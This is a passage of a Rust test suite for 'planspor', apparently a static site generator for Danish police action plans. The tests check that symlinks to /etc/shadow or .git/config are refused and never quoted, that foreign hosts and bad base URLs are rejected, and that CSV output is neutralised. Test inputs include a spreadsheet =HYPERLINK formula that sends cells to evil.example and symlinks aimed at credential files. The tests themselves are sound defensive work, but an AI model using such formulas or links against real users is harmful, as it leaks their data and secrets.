    let before = read_tree(d.path());
    let diags = planspor::check::check(d.path());
    assert_eq!(diags.error_count(), 0, "{}", diags.render(false));
    assert_eq!(read_tree(d.path()), before);
    assert!(!d.path().join("public").exists());
}

// ---------------------------------------------------------------------------------
// Symbolic links under content/ and the theme (issue 13, item 2)
// ---------------------------------------------------------------------------------

/// Every diagnostic rendered, for asserting what a user would see.
fn shown(diags: &Diagnostics) -> String {
    diags.render(false)
}

#[test]
fn linked_file_outside_the_root_is_refused_and_not_quoted() {
    let d = mini("link-out-file");
    let outside = TempDir::new("link-out-file-target");
    // A valid registry entry, so the old code published it; its first line would be
    // quoted by a front-matter error if it were not one.
    put(
        outside.path(),
        "hemmelig.md",
        "+++\ntitle = \"HEMMELIGT-INDHOLD\"\n+++\nHEMMELIG-TEKST\n",
    );
    put(
        outside.path(),
        "shadow",
        "root:$6$HEMMELIG-HASH:19000:0:99999:7:::\n",
    );
    let link = "content/indsatsomraader/hemmelig.md";
    std::os::unix::fs::symlink(outside.path().join("hemmelig.md"), d.path().join(link)).unwrap();
    let link2 = "content/indsatsomraader/shadow.md";
    std::os::unix::fs::symlink(outside.path().join("shadow"), d.path().join(link2)).unwrap();
    let diags = build_fails(d.path());
    let e = find(&diags, "outside the site root");
    assert_at(e, link, 1);
    assert!(diags
        .iter()
        .any(|e| e.file == Path::new(link2) && e.message.contains("outside the site root")));
    let all = shown(&diags);
    assert!(!all.contains("HEMMELIG"), "target content shown:\n{all}");
    assert!(!d.path().join("public").exists());
}

#[test]
fn link_to_etc_shadow_never_shows_its_first_line() {
    if !Path::new("/etc/shadow").exists() {
        return;
    }
    let d = mini("link-shadow");
    let link = "content/kredse/nord/kommuner/by/handleplan-2026.md";
    std::os::unix::fs::symlink("/etc/shadow", d.path().join(link)).unwrap();
    let diags = build_fails(d.path());
    let e = find(&diags, "outside the site root");
    assert_at(e, link, 1);
    let all = shown(&diags);
    assert!(!all.contains("root:"), "/etc/shadow quoted:\n{all}");
}

#[test]
fn linked_folder_outside_the_root_is_not_walked() {
    let d = mini("link-out-dir");
    let link = "content/kredse/nord/kommuner/etc";
    std::os::unix::fs::symlink("/etc", d.path().join(link)).unwrap();
    let diags = build_fails(d.path());
    let e = find(&diags, "outside the site root");
    assert_at(e, link, 1);
    // One error for the link, nothing from inside /etc.
    let inside: Vec<_> = diags
        .iter()
        .filter(|e| e.file.starts_with(link) && e.file != Path::new(link))
        .collect();
    assert!(inside.is_empty(), "walked into /etc:\n{}", shown(&diags));
}

#[test]
fn links_that_stay_inside_the_root_keep_working() {
    let d = mini("link-inside");
    // Plans kept in an archive folder of the site and linked into place.
    put(
        d.path(),
        "arkiv/handleplan-2026.md",
        &BY_PLAN_TEXT.replace("2025", "2026"),
    );
    std::os::unix::fs::symlink(
        "../../../../../arkiv/handleplan-2026.md",
        d.path()
            .join("content/kredse/nord/kommuner/by/handleplan-2026.md"),
    )
    .unwrap();
    std::fs::create_dir_all(d.path().join("arkiv/syd")).unwrap();
    put(
        d.path(),
        "arkiv/syd/_index.md",
        "+++\nname = \"Sydpolitiet\"\n+++\n",
    );
    std::os::unix::fs::symlink(
        d.path().join("arkiv/syd"),
        d.path().join("content/kredse/syd"),
    )
    .unwrap();
    let out = build_ok(d.path());
    assert!(page(&out, "kommuner/by/handleplan/2026/").contains("Tekst om indbrud"));
    assert!(out.join("kredse/syd/index.html").is_file());
}

/// A link inside the site root into a hidden folder (`.git/`) is refused like one outside
/// it: the walk skips hidden folders, and the error for the linked file quoted its first
/// line (`[core]`, or a CI token's `url = https://x-access-token:…`).
#[test]
fn a_content_link_into_git_is_refused_and_not_quoted() {
    let d = mini("link-git");
    put(
        d.path(),
        ".git/config",
        "[remote \"origin\"]\nurl = https://x-access-token:HEMMELIG@example\n",
    );
    let link = "content/indsatsomraader/cfg.md";
    std::os::unix::fs::symlink("../../.git/config", d.path().join(link)).unwrap();
    let diags = build_fails(d.path());
    let e = find(&diags, "or into a hidden folder in it");
    assert_at(e, link, 1);
    assert!(!diags.render(false).contains("HEMMELIG"));
    assert!(!diags.render(false).contains("[remote"));
}

#[test]
fn theme_file_linked_from_outside_the_root_is_refused() {
    let d = mini("link-theme");
    let outside = TempDir::new("link-theme-target");
    put(outside.path(), "secret.css", "HEMMELIG");
    put(d.path(), "themes/standard/templates/.keep", "");
    copy_theme(d.path());
    let link = "themes/standard/static/extra.css";
    std::os::unix::fs::symlink(outside.path().join("secret.css"), d.path().join(link)).unwrap();
    let diags = build_fails(d.path());
    let e = find(&diags, "points outside its theme or templates folder");
    assert_at(e, link, 1);
}

/// Templates are code a pull request brings: a link from them to a file elsewhere in the
/// site root (`.git/config`, which holds a CI checkout's token) is refused, and they
/// cannot read the environment; an absolute theme path is refused too.
#[test]
fn templates_cannot_reach_the_checkout_or_the_environment() {
    let d = mini("template-leak");
    put(
        d.path(),
        ".git/config",
        "extraheader = AUTHORIZATION: basic c2VjcmV0\n",
    );
    put(
        d.path(),
        "templates/404.html",
        "{% extends \"base.html\" %}{% block content %}{% include \"leak.html\" %}{% endblock %}",
    );
    std::os::unix::fs::symlink("../.git/config", d.path().join("templates/leak.html")).unwrap();
    let diags = build_fails(d.path());
    let e = find(&diags, "points outside its theme or templates folder");
    assert_at(e, "templates/leak.html", 1);

    std::fs::remove_file(d.path().join("templates/leak.html")).unwrap();
    put(
        d.path(),
        "templates/404.html",
        "{% extends \"base.html\" %}{% block content %}{{ get_env(name=\"HOME\") }}{% endblock %}",
    );
    let diags = build_fails(d.path());
    find(&diags, "templates cannot read the environment");

    std::fs::remove_file(d.path().join("templates/404.html")).unwrap();
    let outside = TempDir::new("template-leak-theme");
    put(outside.path(), "static/id_ed25519", "HEMMELIG");
    put(
        d.path(),
        "planspor.toml",
        &format!(
            "title = \"Test\"\nbase_url = \"https://example.dk/\"\ntheme = \"{}\"\n",
            outside.path().display()
        ),
    );
    let diags = build_fails(d.path());
    let e = find(&diags, "is not a folder name");
    assert_at(e, "planspor.toml", 3);
}

/// A theme's `static/` or `templates/` folder, or the site's `templates/`, that is itself
/// a link to `.git` moved the fence with it: the checkout (and its token) was published
/// as static files. Such folders must be real folders.
#[test]
fn a_theme_folder_that_is_a_link_to_the_checkout_is_refused() {
    let d = mini("theme-folder-link");
    put(
        d.path(),
        ".git/config",
        "extraheader = AUTHORIZATION: basic c2VjcmV0\n",
    );
    std::fs::create_dir_all(d.path().join("themes/standard")).unwrap();
    std::os::unix::fs::symlink("../../.git", d.path().join("themes/standard/static")).unwrap();
    let diags = build_fails(d.path());
    let e = find(&diags, "may not be symbolic links");
    assert_eq!(e.file, Path::new("themes/standard/static"), "{e}");
    assert!(!d.path().join("public").exists());

    std::fs::remove_file(d.path().join("themes/standard/static")).unwrap();
    std::os::unix::fs::symlink(".git", d.path().join("templates")).unwrap();
    let diags = build_fails(d.path());
    let e = find(&diags, "may not be symbolic links");
    assert_eq!(e.file, Path::new("templates"), "{e}");

    std::fs::remove_file(d.path().join("templates")).unwrap();
    std::fs::remove_dir_all(d.path().join("themes")).unwrap();
    put(d.path(), "elsewhere/standard/static/x.css", "body{}");
    std::os::unix::fs::symlink("elsewhere", d.path().join("themes")).unwrap();
    let diags = build_fails(d.path());
    let e = find(&diags, "may not be symbolic links");
    assert_eq!(e.file, Path::new("themes"), "{e}");
}

/// `content` linked to the site root or above it (`/`) would walk the whole disk, or
/// the site's own output; a link to a separate checkout of the content is still read.
#[test]
fn a_content_link_around_the_site_root_is_refused() {
    let d = mini("content-link-root");
    let elsewhere = TempDir::new("content-link-elsewhere");
    std::fs::rename(d.path().join("content"), elsewhere.path().join("content")).unwrap();
    std::os::unix::fs::symlink(elsewhere.path().join("content"), d.path().join("content")).unwrap();
    build_to(d.path(), &d.path().join("public"), None)
        .unwrap_or_else(|e| panic!("{}", e.render(false)));

    for target in [d.path().to_path_buf(), PathBuf::from("/")] {
        std::fs::remove_file(d.path().join("content")).unwrap();
        std::os::unix::fs::symlink(&target, d.path().join("content")).unwrap();
        let diags = build_fails(d.path());
        let e = find(
            &diags,
            "symbolic link to the site root or a folder holding it",
        );
        assert_eq!(e.file, Path::new("content"), "{e}");
    }
}

/// The tool's advice for an image ("copy the file into themes/<theme>/static/") adds the
/// file to the built-in standard theme; it does not replace the theme.
#[test]
fn a_file_in_themes_standard_adds_to_the_built_in_theme() {
    let d = mini("theme-overlay");
    put(
        d.path(),
        "themes/standard/static/kort.svg",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"/>",
    );
    let out = d.path().join("public");
    if let Err(e) = build_to(d.path(), &out, None) {
        panic!("{}", e.render(false));
    }
    assert!(out.join("static/kort.svg").is_file());
    assert!(out.join("static/style.css").is_file());
    assert!(out.join("index.html").is_file());
}

/// Copies the repository's standard theme into `root/themes/standard`.
fn copy_theme(root: &Path) {
    let from = repo().join("themes/standard");
    for e in walkdir::WalkDir::new(&from) {
        let e = e.unwrap();
        let target = root
            .join("themes/standard")
            .join(e.path().strip_prefix(&from).unwrap());
        if e.file_type().is_dir() {
            std::fs::create_dir_all(&target).unwrap();
        } else {
            std::fs::copy(e.path(), &target).unwrap();
        }
    }
}

// ---------------------------------------------------------------------------------
// base_url (item 3)
// ---------------------------------------------------------------------------------

#[test]
fn bad_base_urls_are_located_in_planspor_toml() {
    for (bad, why) in [
        ("https://example.dk//", "empty path segment"),
        ("//evil.example/", "absolute address"),
        ("https://user:secret@example.dk/", "user name or password"),
        ("https://example.dk/?utm_source=x", "query"),
        ("https://example.dk/#top", "fragment"),
        ("https:///planer/", "no valid host"),
    ] {
        let d = mini("base-url");
        put(
            d.path(),
            "planspor.toml",
            &format!("title = \"Test\"\nbase_url = \"{bad}\"\n"),
        );
        let diags = build_fails(d.path());
        let e = find(&diags, "base_url");
        assert!(e.message.contains(why), "{bad}: {e}");
        assert_at(e, "planspor.toml", 2);
        assert!(e.help.is_some(), "no fix for {bad}");
    }
}

#[test]
fn base_url_without_trailing_slash_is_normalised() {
    let d = mini("base-url-slash");
    put(
        d.path(),
        "planspor.toml",
        "title = \"Test\"\nbase_url = \"https://example.dk/planer\"\n",
    );
    let out = build_ok(d.path());
    let sitemap = std::fs::read_to_string(out.join("sitemap.xml")).unwrap();
    assert!(sitemap.contains("<loc>https://example.dk/planer/kommuner/by/</loc>"));
    let front = std::fs::read_to_string(out.join("index.html")).unwrap();
    assert!(!front.contains("\"//"), "protocol-relative link in page");
}

#[test]
fn bad_base_url_option_is_a_cli_error() {
    let d = mini("base-url-cli");
    for bad in ["//evil.example/", "https://example.dk//", "https://a@b.dk/"] {
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_planspor"))
            .args(["build", "--root"])
            .arg(d.path())
            .args(["--base-url", bad])
            .output()
            .unwrap();
        assert!(!out.status.success(), "{bad} accepted");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains("--base-url") && err.contains(bad), "{err}");
        assert!(!d.path().join("public").exists());
    }
    // The library path (BuildOptions) refuses it too.
    let diags = build_to(d.path(), &d.path().join("public"), Some("//evil.example/"))
        .expect_err("accepted");
    assert!(shown(&diags).contains("--base-url"));
}

// ---------------------------------------------------------------------------------
// Subresources from other hosts (item 4)
// ---------------------------------------------------------------------------------

#[test]
fn images_from_other_hosts_are_errors_at_the_image() {
    for url in [
        "https://tracker.example/p.png",
        "//tracker.example/p.png",
        "http://tracker.example/p.gif",
    ] {
        let d = mini("foreign-image");
        edit(
            d.path(),
            BY_PLAN,
            "Tekst om nettet.",
            &format!("Tekst om nettet.\n\nSe kortet: ![pixel]({url}) her."),
        );
        let diags = build_fails(d.path());
        let e = find(&diags, "another host");
        assert!(e.message.contains(url), "{e}");
        assert_at_col(
            e,
            BY_PLAN,
            line_of(d.path(), BY_PLAN, "pixel"),
            col_of(d.path(), BY_PLAN, url),
        );
        assert!(e.help.as_deref().unwrap_or("").contains("static/"), "{e}");
    }
    // A reference-style image in a registry entry's description.
    let d = mini("foreign-image-ref");
    let f = "content/indsatsomraader/indbrud.md";
    put(
        d.path(),
        f,
        "+++\ntitle = \"Indbrud\"\n+++\nTekst.\n\n![logo][l]\n\n[l]: https://cdn.example/l.png\n",
    );
    let diags = build_fails(d.path());
    assert_at(find(&diags, "another host"), f, 6);
}

#[test]
fn links_to_other_sites_and_local_images_stay_allowed() {
    let d = mini("local-image");
    edit(
        d.path(),
        BY_PLAN,
        "Tekst om nettet.",
        "Tekst om nettet. Se [politi.dk](https://politi.dk/) og <https://www.dr.dk/>.\n\n\
         ![ikon](/static/favicon.svg)\n\n\
         <img src=\"https://tracker.example/raw.png\"> <iframe src=\"//x.example/\"></iframe> \
         <script src=\"https://x.example/s.js\"></script> <link rel=stylesheet href=\"https://x.example/c.css\"> \
         <video src=\"https://x.example/v.mp4\"></video> <span style=\"background:url(https://x.example/b.png)\">x</span>",
    );
    let out = build_ok(d.path());
    // Raw HTML is text, so none of it can load anything: no page refers to another
    // host in a src, srcset or stylesheet.
    for (path, bytes) in read_tree(&out) {
        if !path.ends_with(".html") {
            continue;
        }
        let html = String::from_utf8_lossy(&bytes);
        for needle in [
            "src=\"https://",
            "src=\"//",
            "srcset=\"",
            "style=\"background",
            "stylesheet href=\"https://",
        ] {
            assert!(
                !html.contains(needle),
                "{path} loads from another host: {needle}"
            );
        }
    }
    let plan = page(&out, "kommuner/by/handleplan/2025/");
    assert!(plan.contains("href=\"https://politi.dk/\""));
    assert!(plan.contains("src=\"/static/favicon.svg\""));
}

// ---------------------------------------------------------------------------------
// build fails on what check calls an error (item 15)
// ---------------------------------------------------------------------------------

#[test]
fn broken_relative_link_fails_the_build_and_keeps_the_old_site() {
    let d = mini("build-broken-link");
    let out = build_ok(d.path());
    let before = read_tree(&out);
    edit(
        d.path(),
        BY_PLAN,
        "Tekst om nettet.",
        "Tekst om nettet. Se [sidste år](../2019/) og [afsnittet](#ingen-saadan).",
    );
    let diags = build_fails(d.path());
    let e = find(&diags, "broken link `../2019/`");
    assert_at(e, BY_PLAN, line_of(d.path(), BY_PLAN, "../2019/"));
    find(&diags, "`#ingen-saadan`");
    assert_eq!(read_tree(&out), before, "the previous output changed");
    // check reports the same.
    let checked = planspor::check::check(d.path());
    assert!(find(&checked, "broken link `../2019/`").is_error());
}

#[test]
fn a_link_to_another_page_s_missing_anchor_fails_the_build_quoted_as_written() {
    // Anchors into other pages are checked after every page is made, from hashes; the
    // error still quotes the link as written and finds it in the content.
    let d = mini("build-broken-anchor");
    let out = build_ok(d.path());
    let before = read_tree(&out);
    edit(
        d.path(),
        BY_PLAN,
        "Tekst om nettet.",
        "Tekst om nettet. Se [kommunen](/kommuner/by/#ingen-saadan) og [den](/kommuner/by/).",
    );
    let diags = build_fails(d.path());
    let e = find(
        &diags,
        "broken link `/kommuner/by/#ingen-saadan`: no element with id `ingen-saadan` there",
    );
    assert_at(e, BY_PLAN, line_of(d.path(), BY_PLAN, "#ingen-saadan"));
    assert_eq!(read_tree(&out), before, "the previous output changed");
    let checked = planspor::check::check(d.path());
    assert!(find(&checked, "no element with id `ingen-saadan`").is_error());
}

#[test]
fn relative_links_in_a_plan_s_text_work_on_the_history_page_too() {
    // A bound section's text is shown on the indsatsområde's history page as well,
    // where `#…` and `../` would lead elsewhere: they are resolved against the plan.
    let d = mini("relative-in-bound-text");
    edit(
        d.path(),
        BY_PLAN,
        "Tekst om indbrud.",
        "Tekst om indbrud (se [nettet](#tryghed-og-sikkerhed-paa-nettet) og [alle planer](../)).",
    );
    let out = build_ok(d.path());
    let history = page(&out, "indsatsomraader/indbrud/kommuner/by/");
    for href in [
        "href=\"/kommuner/by/handleplan/2025/#tryghed-og-sikkerhed-paa-nettet\"",
        "href=\"/kommuner/by/handleplan/\"",
    ] {
        assert!(history.contains(href), "{href} not on the history page");
    }
    let plan = page(&out, "kommuner/by/handleplan/2025/");
    assert!(plan.contains("href=\"#tryghed-og-sikkerhed-paa-nettet\""));
}

#[test]
fn a_broken_anchor_in_a_plan_s_text_is_reported_once_at_its_line() {
    let d = mini("broken-anchor-in-text");
    edit(
        d.path(),
        BY_PLAN,
        "Tekst om indbrud.",
        "Tekst om indbrud. Se [afsnittet](#ingen-saadan).",
    );
    let diags = build_fails(d.path());
    let e = find(&diags, "no element with id `ingen-saadan`");
    assert_at_col(
        e,
        BY_PLAN,
        line_of(d.path(), BY_PLAN, "#ingen-saadan"),
        col_of(d.path(), BY_PLAN, "#ingen-saadan"),
    );
    // Broken on the plan's page and on the history page: one error, at the content.
    assert_eq!(diags.error_count(), 1, "{}", diags.render(false));
}

// ---------------------------------------------------------------------------------
// Silent losses (item 10)
// ---------------------------------------------------------------------------------

#[test]
fn upper_case_md_extension_is_an_error_with_the_new_name() {
    let d = mini("upper-md");
    let wrong = "content/kredse/nord/kommuner/by/handleplan-2026.MD";
    put(d.path(), wrong, &BY_PLAN_TEXT.replace("2025", "2026"));
    let diags = build_fails(d.path());
    let e = find(&diags, "must end in `.md`");
    assert_at(e, wrong, 1);
    assert_eq!(e.help.as_deref(), Some("rename it to `handleplan-2026.md`"));
}

/// A plan saved as text by Notepad or Word ("save as text") was ignored with a warning:
/// the year's plan dropped out of the published site while the build stayed green. A
/// file named like content is an error, and the published site is left as it was; other
/// files (a plan's PDF kept beside it) are still only warned about.
#[test]
fn a_plan_saved_as_text_is_an_error_not_a_lost_year() {
    let d = mini("saved-as-text");
    let out = d.path().join("public");
    build_to(d.path(), &out, None).unwrap_or_else(|e| panic!("{}", e.render(false)));
    let before = std::fs::read(out.join("index.html")).unwrap();
    let dir = "content/kredse/nord/kommuner/by";
    let text = BY_PLAN_TEXT.replace("2025", "2026");
    for name in [
        "handleplan-2026.md.txt",
        "handleplan-2026.txt",
        "Handleplan-2026.TXT",
        "handleplan-2026",
    ] {
        let wrong = format!("{dir}/{name}");
        put(d.path(), &wrong, &text);
        let diags = build_to(d.path(), &out, None).expect_err(name);
        let e = find(&diags, "must end in `.md`");
        assert_at(e, &wrong, 1);
        assert!(
            e.help
                .as_deref()
                .unwrap_or("")
                .ends_with("rename it to `handleplan-2026.md`"),
            "{name}: {e}"
        );
        std::fs::remove_file(d.path().join(&wrong)).unwrap();
    }
    assert_eq!(std::fs::read(out.join("index.html")).unwrap(), before);
    put(d.path(), &format!("{dir}/handleplan-2025.pdf"), "%PDF-1.4");
    put(d.path(), &format!("{dir}/noter.txt"), "noter");
    let report = build_to(d.path(), &out, None).unwrap_or_else(|e| panic!("{}", e.render(false)));
    assert_eq!(
        report
            .warnings
            .iter()
            .filter(|w| w.message.contains("not a Markdown file"))
            .count(),
        2
    );
}

/// Names the output takes from content stay within the file system's 255 bytes: an id
/// of 251 characters passed `check` and failed the build (`data/soeg/i/<id>.json`), as
/// did a "word" of 300 letters common enough to get a postings file of its own.
#[test]
fn names_from_content_fit_the_file_system() {
    let d = mini("long-names");
    let id = "a".repeat(251);
    let rel = format!("content/indsatsomraader/{id}.md");
    put(d.path(), &rel, "+++\ntitle = \"Langt id\"\n+++\n");
    let diags = planspor::check::check(d.path());
    let e = find(&diags, "not where the content layout expects");
    assert!(e.file.ends_with(format!("{id}.md")), "{e}");
    assert!(
        e.help
            .as_deref()
            .unwrap_or("")
            .contains("at most 100 characters"),
        "{e}"
    );
    std::fs::remove_file(d.path().join(&rel)).unwrap();

    let word = format!("zq{}", "x".repeat(300));
    let sections: String = (0..400)
        .map(|i| format!("\n## Bilag {i}\n\n{word} tekst{}\n", " ord".repeat(i % 7)))
        .collect();
    put(d.path(), BY_PLAN, &format!("{BY_PLAN_TEXT}{sections}"));
    build_to(d.path(), &d.path().join("public"), None)
        .unwrap_or_else(|e| panic!("{}", e.render(false)));
}

/// A registry title that is a spreadsheet formula is not one in `status.csv`: opened in
/// Excel, `=HYPERLINK(…&A2…)` would send the sheet's cells to another site.
#[test]
fn status_csv_cells_are_not_formulas() {
    let d = mini("csv-formula");
    let formula = "=HYPERLINK(\"https://evil.example/?\"&A2,\"Indbrud\")";
    edit(
        d.path(),
        "content/indsatsomraader/indbrud.md",
        "title = \"Indbrud\"",
        &format!("title = '{formula}'"),
    );
    let out = d.path().join("public");
    build_to(d.path(), &out, None).unwrap_or_else(|e| panic!("{}", e.render(false)));
    let csv = std::fs::read_to_string(out.join("data/status.csv")).unwrap();
    let row = csv.lines().find(|l| l.starts_with("indbrud,")).unwrap();
    assert!(
        row.starts_with("indbrud,\"'=HYPERLINK(\"\"https://"),
        "{row}"
    );
    for line in csv.lines() {
        for cell in line.split(',') {
            assert!(
                !cell
                    .trim_start_matches('"')
                    .starts_with(['=', '+', '-', '@']),
                "{line}"
            );
        }
    }
}

/// Copies a file manager or Word makes, and a capitalised name, are named as what they
/// are, not only "not where the content layout expects a file".
#[test]
fn copies_and_capitals_are_named_as_such() {
    let d = mini("copies");
    let dir = "content/kredse/nord/kommuner/by";
    let text = BY_PLAN_TEXT.replace("2025", "2026");
    for (name, says) in [
        (
            "handleplan-2026 (1).md",
            "looks like a copy of a content file",
        ),
        (
            "handleplan-2026-kopi.md",
            "looks like a copy of a content file",
        ),
        ("Handleplan-2026.md", "content file names are lower case"),
    ] {
        let rel = format!("{dir}/{name}");
        put(d.path(), &rel, &text);
        let diags = build_fails(d.path());
        let e = find(&diags, says);
        assert!(e.file.ends_with(name), "{e}");
        if name.starts_with('H') {
            assert_eq!(e.help.as_deref(), Some("rename it to `handleplan-2026.md`"));
        }
        std::fs::remove_file(d.path().join(rel)).unwrap();
    }
}

#[test]
fn output_inside_content_is_refused() {
    let d = mini("out-in-content");
    for out in [
        "content/public",
        "content/kredse/nord/site",
        "themes/x",
        ".",
    ] {
        let target = d.path().join(out);
        let diags = build_to(d.path(), &target, None).expect_err(out);
        let e = diags.iter().find(|e| e.is_error()).unwrap();
        assert!(
            e.message.contains("the output folder is"),
            "{out}: {}",
            shown(&diags)
        );
        assert!(e.help.as_deref().unwrap_or("").contains("public"), "{e}");
    }
    assert!(!d.path().join("content/public").exists());
    // The command line says so too, with a failing status.
    let o = std::process::Command::new(env!("CARGO_BIN_EXE_planspor"))
        .args(["build", "--root"])
        .arg(d.path())
        .arg("--output")
        .arg(d.path().join("content/public"))
        .output()
        .unwrap();
    assert!(!o.status.success());
    assert!(String::from_utf8_lossy(&o.stderr).contains("inside the site's content/ folder"));
    build_ok(d.path());
}

// ---------------------------------------------------------------------------------
// Control characters in text (item 5)
// ---------------------------------------------------------------------------------

#[test]
fn control_characters_never_break_xml_or_json() {
    let d = mini("control-chars");
    // TOML escapes put the raw characters into the strings; text pasted from a PDF
    // brings them the same way.
    let nasty = "\\u0001\\u0008\\u000B\\u000C\\u001B\\u001F\\uFFFE\\uFFFF\\u007F\\u0085";
    put(
        d.path(),
        "planspor.toml",
        &format!("title = \"Test{nasty}\"\nbase_url = \"https://example.dk/\"\n"),
    );
    edit(
        d.path(),
        BY_PLAN,
        "title = \"Handleplan 2025\"",
        &format!("title = \"Handleplan{nasty} 2025\"\nsummary = \"Kort{nasty} <&>\""),
    );
    put(
        d.path(),
        "content/kredse/nord/kommuner/by/_index.md",
        &format!("+++\nname = \"By\"\nfull_name = \"By{nasty} Kommune\"\n+++\n"),
    );
    edit(
        d.path(),
        "content/indsatsomraader/indbrud.md",
        "title = \"Indbrud\"",
        &format!("title = \"Indbrud\"\naliases = [\"Ind{nasty}brud\"]"),
    );
    edit(
        d.path(),
        BY_PLAN,
        "Tekst om nettet.",
        "Tekst \u{1}om\u{b} nettet.",
    );
    edit(
        d.path(),
        BY_PLAN,
        "place = \"Rådhuset\"",
        &format!("place = \"Råd{nasty}huset;\\r\\nsal 2, lokale 3\"\ntime = \"kl. 10{nasty}\""),
    );
    let out = build_ok(d.path());
    let mut xml = 0;
    let mut json = 0;
    // The texts "compare any two" diffs in the browser carry the plans' text too.
    let mut texts = 0;
    // And the search index, whose documents hold the plans' text.
    let mut search = 0;
    for (path, bytes) in read_tree(&out) {
        if !(path.ends_with(".xml") || path.ends_with(".json")) {
            continue;
        }
        let text = String::from_utf8(bytes).unwrap_or_else(|_| panic!("{path}: not UTF-8"));
        if path.ends_with(".xml") {
            xml += 1;
            if let Err(e) = roxmltree::Document::parse(&text) {
                panic!("{path} is not well-formed XML: {e}");
            }
        } else if path.ends_with(".json") {
            if path.ends_with("tekster.json") {
                texts += 1;
            } else if path.starts_with("data/soeg/") {
                search += 1;
            } else {
                json += 1;
            }
            if let Err(e) = serde_json::from_str::<serde_json::Value>(&text) {
                panic!("{path} is not valid JSON: {e}");
            }
        }
    }
    // The site's feed and sitemap, and a feed per kreds and kommune (one of each).
    assert_eq!((xml, json), (4, 2), "not every data file was parsed");
    assert!(texts >= 2, "the texts files were parsed ({texts})");
    assert!(search >= 3, "the search index was parsed ({search})");
    // The calendar carries the same texts: a real iCalendar parser reads it, and no
    // control character but the line ends is left in it.
    let ics = std::fs::read_to_string(out.join("kommuner/by/moeder.ics")).unwrap();
    assert!(
        !ics.replace("\r\n", "").chars().any(|c| c.is_control()),
        "{ics:?}"
    );
    let cal = ical::IcalParser::new(ics.as_bytes())
        .next()
        .expect("a calendar")
        .expect("a well-formed calendar");
    let location = cal.events[0]
        .properties
        .iter()
        .find(|p| p.name == "LOCATION")
        .and_then(|p| p.value.clone());
    assert_eq!(location.as_deref(), Some("Rådhuset\\;  sal 2\\, lokale 3"));
    let feed = std::fs::read_to_string(out.join("data/planer.xml")).unwrap();
    let doc = roxmltree::Document::parse(&feed).unwrap();
    let titles: Vec<&str> = doc
        .descendants()
        .filter(|n| n.has_tag_name("title"))
        .filter_map(|n| n.text())
        .collect();
    assert!(
        titles
            .iter()
            .any(|t| t.starts_with("Handleplan\u{7f}\u{85} 2025")),
        "{titles:?}"
    );
}

// ---------------------------------------------------------------------------------
// Kommune folders, names and references; one root cause, one error (items 11, 12)
// ---------------------------------------------------------------------------------

/// Adds kommune Ærø in folder `folder` and a local priority for `reference` to the
/// district plan.
fn with_aeroe(name: &str, folder: &str, reference: &str) -> TempDir {
    let d = mini(name);
    put(
        d.path(),
        &format!("content/kredse/nord/kommuner/{folder}/_index.md"),
        "+++\nname = \"Ærø\"\n+++\n",
    );
    edit(
        d.path(),
        KREDS_PLAN,
        "title = \"Samarbejdsplan 2025\"",
        &format!(
            "title = \"Samarbejdsplan 2025\"\n\n[[local_priorities]]\nkommune = \"{reference}\"\nitems = [\"Færgen\"]"
        ),
    );
    d
}

fn errors(diags: &Diagnostics) -> Vec<&Diagnostic> {
    diags.iter().filter(|d| d.is_error()).collect()
}

#[test]
fn kommune_folder_must_be_the_slug_of_its_name() {
    let d = with_aeroe("aero-folder", "aero", "aeroe");
    let diags = build_fails(d.path());
    let f = "content/kredse/nord/kommuner/aero/_index.md";
    let e = find(&diags, "is not the slug of this kommune's name `Ærø`");
    assert_at_col(e, f, 2, 9);
    assert!(
        e.help.as_deref().unwrap_or("").contains("to `aeroe`"),
        "{e}"
    );
    // The correct reference is not told to change to the wrong folder name.
    assert_eq!(errors(&diags).len(), 1, "{}", shown(&diags));
}

#[test]
fn kommune_reference_with_danish_letters_suggests_the_slug() {
    let d = with_aeroe("aeroe-ref", "aeroe", "ærø");
    let diags = build_fails(d.path());
    let e = find(&diags, "`ærø` is not a kommune");
    assert_at_col(e, KREDS_PLAN, line_of(d.path(), KREDS_PLAN, "\"ærø\""), 12);
    assert_eq!(
        e.help.as_deref(),
        Some("write the slug `aeroe` (lower case, æ→ae, ø→oe, å→aa)")
    );
}

#[test]
fn folder_that_is_not_a_slug_is_one_error_not_one_per_reference() {
    let d = with_aeroe("aeroe-not-slug", "Ærø", "aeroe");
    let diags = build_fails(d.path());
    let e = find(&diags, "is not a slug");
    assert_eq!(e.file, Path::new("content/kredse/nord/kommuner/Ærø"));
    assert!(e.help.as_deref().unwrap_or("").contains("`aeroe`"), "{e}");
    assert_eq!(errors(&diags).len(), 1, "{}", shown(&diags));
}

#[test]
fn broken_index_toml_is_one_error_not_also_a_missing_index() {
    for f in [
        "content/kredse/nord/_index.md",
        "content/kredse/nord/kommuner/by/_index.md",
    ] {
        let d = mini("broken-index");
        put(d.path(), f, "+++\nname = \"Nord\n+++\n");
        let diags = build_fails(d.path());
        let errs = errors(&diags);
        assert_eq!(errs.len(), 1, "{f}:\n{}", shown(&diags));
        assert_at(errs[0], f, 2);
        assert!(
            !shown(&diags).contains("has no _index.md"),
            "{}",
            shown(&diags)
        );
    }
}

// ---------------------------------------------------------------------------------
// Messages that say what is wrong (item 13) and dates (item 14)
// ---------------------------------------------------------------------------------

/// Moves the kommune plan to `file` (in the same folder) with `year = 2025` replaced.
fn plan_as(d: &TempDir, file: &str, years: &str) -> String {
    std::fs::remove_file(d.path().join(BY_PLAN)).unwrap();
    let rel = format!("content/kredse/nord/kommuner/by/{file}");
    put(d.path(), &rel, &BY_PLAN_TEXT.replace("year = 2025", years));
    rel
}

#[test]
fn years_must_list_every_year() {
    let d = mini("years-gap");
    let rel = plan_as(&d, "handleplan-2025-2027.md", "years = [2025, 2027]");
    let diags = build_fails(d.path());
    let e = find(
        &diags,
        "`years` must list every year the plan covers: 2026 is missing",
    );
    assert_at_col(e, &rel, 3, 1);
    assert_eq!(
        e.help.as_deref(),
        Some("write `years = [2025, 2026, 2027]`")
    );

    let d = mini("years-empty");
    let rel = plan_as(&d, "handleplan-2025.md", "years = []");
    let diags = build_fails(d.path());
    let e = find(&diags, "`years` is empty");
    assert_at(e, &rel, 3);
    assert!(
        e.help.as_deref().unwrap_or("").contains("year = 2025"),
        "{e}"
    );
}

#[test]
fn en_dash_in_a_plan_file_name_is_named() {
    let d = mini("en-dash");
    let rel = plan_as(&d, "handleplan-2025–2026.md", "years = [2025, 2026]");
    let diags = build_fails(d.path());
    let e = find(&diags, "dash (–) where a hyphen (-) belongs");
    assert_at(e, &rel, 1);
    assert_eq!(
